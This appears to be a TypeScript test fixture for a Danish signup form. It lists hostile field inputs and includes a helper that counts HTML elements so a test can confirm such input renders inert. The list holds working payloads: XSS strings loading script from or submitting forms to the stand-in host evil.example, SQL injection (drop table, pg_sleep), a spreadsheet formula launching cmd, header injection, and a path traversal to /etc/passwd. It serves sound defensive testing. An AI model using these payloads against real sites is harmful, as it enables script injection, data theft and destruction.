/**
 * What a stranger, a careless paste or a broken device may put into a field. A page that shows one
 * of these has the same elements and attributes as with a friendly text: see elementsIn.
 */
export interface Hostile {
  name: string
  text: string
}

/** The text that the others are compared with. */
export const friendly = 'Jeg vil gerne synge i kor igen.'

const unseen = {
  rtl: '\u202e',
  isolate: '\u2067',
  zero: '\u200b',
  joiner: '\u200d',
  mark: '\ufeff',
  nul: '\u0000',
}

export const hostile: readonly Hostile[] = [
  { name: 'script', text: '<script>document.title="taken"</script>' },
  { name: 'script in capitals', text: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'end of script', text: '</script><script>taken()</script>' },
  { name: 'end of the field', text: '</textarea></option></select><img src=x onerror=taken()>' },
  { name: 'end of the title', text: '</title><base href="//evil.example/">' },
  { name: 'attribute, double quote', text: '" onfocus="taken()" autofocus x="' },
  { name: 'attribute, single quote', text: "' onfocus='taken()' autofocus x='" },
  { name: 'attribute, no quote', text: 'x onmouseover=taken() ' },
  { name: 'attribute, backtick', text: '`onfocus=taken()`' },
  { name: 'picture', text: '<img src=x onerror="taken()">' },
  { name: 'drawing', text: '<svg/onload=taken()><animate onbegin=taken()></svg>' },
  { name: 'form', text: '</form><form action="//evil.example"><input name="once">' },
  { name: 'style', text: '</style><style>body{display:none}</style>' },
  { name: 'frame', text: '<iframe srcdoc="<script>taken()</script>"></iframe>' },
  { name: 'refresh', text: '<meta http-equiv="refresh" content="0;url=//evil.example">' },
  { name: 'comment', text: '<!-- --><!--' },
  { name: 'character data', text: ']]><![CDATA[<x>' },
  { name: 'entities', text: '&lt;script&gt;&#60;b&#62;&amp;lt;' },
  { name: 'escaped twice', text: '%253Cscript%253Etaken()%253C/script%253E' },
  { name: 'escaped once', text: '%3Cscript%3Etaken()%3C/script%3E' },
  { name: 'unicode escapes', text: '\\u003cscript\\u003e \\x3cb\\x3e' },
  { name: 'template', text: '{{constructor.constructor("taken()")()}}' },
  { name: 'template literal', text: '$\u007btaken()} #{taken()} <%= taken() %>' },
  { name: 'link', text: 'javascript:taken()' },
  { name: 'link with a tab', text: 'java\tscript:taken()' },
  { name: 'data link', text: 'data:text/html;base64,PHNjcmlwdD50YWtlbigpPC9zY3JpcHQ+' },
  { name: 'other host', text: '//evil.example/min-kurs' },
  { name: 'SQL quote', text: "'; drop table person.person; --" },
  { name: 'SQL or', text: "' or '1'='1" },
  { name: 'SQL dollar quotes', text: '$$; reset role; $$ $1 $2 %s %I' },
  { name: 'SQL backslash', text: "\\'; select pg_sleep(60); --" },
  { name: 'SQL wildcards', text: '%_%\\%' },
  { name: 'right to left', text: `${unseen.rtl}gnij reteh geJ${unseen.isolate}` },
  { name: 'no width', text: `Ma${unseen.zero}ja${unseen.joiner}${unseen.mark}` },
  { name: 'NUL', text: `An${unseen.nul}na` },
  { name: 'control characters', text: 'An\u0007\u001b[31mna\u009b' },
  { name: 'half a character', text: 'Anna \ud83d' },
  { name: 'half a character first', text: '\ude00 Anna' },
  { name: 'letters with many marks', text: `A${'\u0301'.repeat(200)}nna` },
  { name: 'emoji', text: '👩🏽‍🦽‍➡️ 🏳️‍⚧️ 🇩🇰' },
  { name: 'Danish', text: 'Æblegrød på Ærø, Århus å – ”søster”, é ü ð §' },
  { name: 'other scripts', text: 'Мехмет · فاطمة · 美里 · Ελένη' },
  { name: 'look-alike', text: 'Мaja Tоft' },
  { name: 'formula', text: '=HYPERLINK("//evil.example","Anna")' },
  { name: 'formula, plus', text: '+45 49 28 00 00' },
  { name: 'formula, at', text: '@SUM(1+1)*cmd|" /C calc"!A0' },
  { name: 'header', text: 'Anna\r\nSet-Cookie: session=taken\r\n\r\n<b>' },
  { name: 'lines', text: 'a\n\n\n\n\r\n\r b\u2028c\u2029d' },
  { name: 'only spaces', text: ' \t\u00a0\u3000 ' },
  { name: 'path', text: '../../../../etc/passwd' },
  { name: 'prototype', text: '__proto__' },
  { name: 'constructor', text: 'constructor' },
  { name: 'object', text: '{"__proto__":{"admin":true}}' },
  { name: 'not a number', text: '-1e309' },
  { name: 'somebody’s id', text: '00000000-0000-7000-8000-000000000000' },
  { name: 'one long word', text: 'å'.repeat(10_000) },
  { name: 'very long', text: 'Jeg vil gerne synge. '.repeat(10_000) },
]

const tag = /<(!--|!\[|[a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>?/gi
const attribute = /([^\s"'<>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g
const leads = /^(?:href|xlink:href|src|action|formaction|ping|data|srcdoc)$/i
const dangerous = /^["']?\s*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t\s*:|data\s*:\s*text)/i

/**
 * The elements of a page and their attributes, counted by name: { p: 2, 'a@href': 1 }. Two pages
 * that differ only in an inert text count the same; one element or handler more and they do not.
 */
export function elementsIn(html: string): Record<string, number> {
  const counted: Record<string, number> = {}
  const count = (name: string) => {
    counted[name] = (counted[name] ?? 0) + 1
  }
  for (const { 1: name = '', 2: attributes = '' } of html.matchAll(tag)) {
    const element = name.toLowerCase()
    count(element)
    for (const { 1: key = '', 2: value = '' } of attributes.matchAll(attribute)) {
      count(`${element}@${key.toLowerCase()}`)
      if (leads.test(key) && dangerous.test(value)) count('hostile link')
    }
  }
  return counted
}
